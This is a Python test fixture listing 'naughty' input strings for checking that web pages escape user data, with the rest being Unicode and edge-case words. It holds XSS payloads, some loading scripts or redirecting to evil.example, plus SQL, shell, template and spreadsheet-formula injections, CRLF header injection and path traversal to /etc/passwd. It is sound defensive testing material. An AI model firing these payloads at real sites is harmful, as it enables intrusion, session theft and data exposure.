"""Strings that break pages: each kind of trouble at least once, written for this suite.

What would become an element carries the class `naughty`, so that a page can be asked whether anything did; what a
template would work out says `naughty49` when it was.
"""

from collections.abc import Iterator
from itertools import cycle

MARKUP = (
    "<b class=naughty>bold</b>",
    "\"><b class='naughty'>out of the attribute</b>",
    "'><i class=naughty>out of the other quotes</i>",
    "</textarea><b class=naughty>out of the text area</b>",
    "</title><b class=naughty>out of the title</b>",
    "</option></select><b class=naughty>out of the choice</b>",
    "--><b class=naughty>out of a comment</b><!--",
    "]]><b class=naughty>out of CDATA</b>",
    "<b class=naughty",
    "&lt;b class=naughty&gt;twice&lt;/b&gt;",
    "&#60;b class=naughty&#62;by number&#60;/b&#62;",
    "＜b class=naughty＞wide＜/b＞",
    "<sc<b>ript class=naughty>alert(1)</sc</b>ript>",
)
SCRIPTS = (
    "<script class=naughty>alert(1)</script>",
    '"><script class=naughty src=//evil.example/x.js></script>',
    "<img class=naughty src=x onerror=alert(1)>",
    "<svg class=naughty onload=alert(1)>",
    "<svg><animate class=naughty onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<details class=naughty open ontoggle=alert(1)>",
    "<iframe class=naughty srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<math><a class=naughty xlink:href=javascript:alert(1)>x</a></math>",
    '" autofocus onfocus=alert(1) class=naughty x="',
    "' onmouseover='alert(1)' class='naughty",
    "` onmouseover=alert(1) class=naughty",
    "javascript:alert(1)//naughty",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<style class=naughty>*{display:none}</style>",
    "<link class=naughty rel=stylesheet href=//evil.example/x.css>",
    "<base class=naughty href=//evil.example/>",
    "<meta class=naughty http-equiv=refresh content='0;url=//evil.example/'>",
    "<form class=naughty action=//evil.example/><input name=csrf>",
    "<b class=naughty data-hx-get=//evil.example/ data-hx-trigger=load>x</b>",
)
TEMPLATES = (
    "naughty{{7*7}}",
    "naughty{%print(7*7)%}",
    "naughty${7*7}",
    "naughty<%= 7*7 %>",
    "{{ self.__init__.__globals__ }}",
    "%(naughty)s %s %d %n {0} {naughty}",
)
QUERIES = (
    "'; DROP TABLE officer; --",
    "' OR '1'='1",
    "1) OR 1=1--",
    "\\'; SELECT pg_sleep(9)--",
    "%' ESCAPE '_",
    "$(touch naughty) `id` | cat ; && ||",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "http://[::1]:80%2f@evil.example/",
    "//evil.example/%2e%2e",
    "x\r\nSet-Cookie: naughty=1\r\n\r\n<b class=naughty>",
    '=HYPERLINK("//evil.example")',
    "+1+cmd|' /C calc'!A0",
)
WRITING = (
    "W" * 300,
    "\u0d9a\u0dca\u200d\u0dbb\u0dd3\u0db8\u0dad\u0dd3 \u0dc1\u0dca\u200d\u0dbb\u0dd3 " * 8,
    "\u0bb8\u0bcd\u0bb0\u0bc0\u0bb2\u0b99\u0bcd\u0b95\u0bbe\u0b95\u0bcd\u0b95\u0bbe\u0bb0\u0bb0\u0bcd\u0b95\u0bb3\u0bcd"
    * 6,
    "\u202egnp.eman\u202c and \u2067\u0645\u062d\u0645\u062f\u2069",
    "\u0627\u0644\u0633\u0644\u0627\u0645 \u0639\u0644\u064a\u0643\u0645 " * 6,
    "\ufdfd\ufdfa" * 12,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0324\u034e" * 12,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "\U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1f1\U0001f1f0",
    "\u7530\u4e2d\u3055\u3093\u306b\u3042\u3052\u3066\u4e0b\u3055\u3044" * 8,
    "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "\u00a0\u2003\u3000\u1680",
    "\u2028line\u2029paragraph\u0085next",
    "\U000e0041\U000e0042\ufff9\ufffb\uffff",
    "e\u0301\u0065\u0301 \u00e9 \u1e9b\u0323",
    "\u01c5 \u0130 \u0131 \u017f \u1e9e \ufb03",
)
WORDS = (
    *("null", "undefined", "None", "NaN", "true", "__proto__", "constructor", "toString"),
    *("0", "-1", "1e309", "0x1F", "999999999999999999999999", "1/0", "01/02/2026", "2026-02-30"),
    *(".", "..", "/", "\\", "#", "?", "&amp;", "%00", "%2e", "+", "\t", "\u0001\u0007\u001b[31m", " " * 40),
)
STRINGS = (*MARKUP, *SCRIPTS, *TEMPLATES, *QUERIES, *WRITING, *WORDS)


def from_the(number: int) -> Iterator[str]:
    """All of them again and again, beginning at one."""
    turning = cycle(STRINGS)
    for _ in range(number % len(STRINGS)):
        next(turning)
    return turning
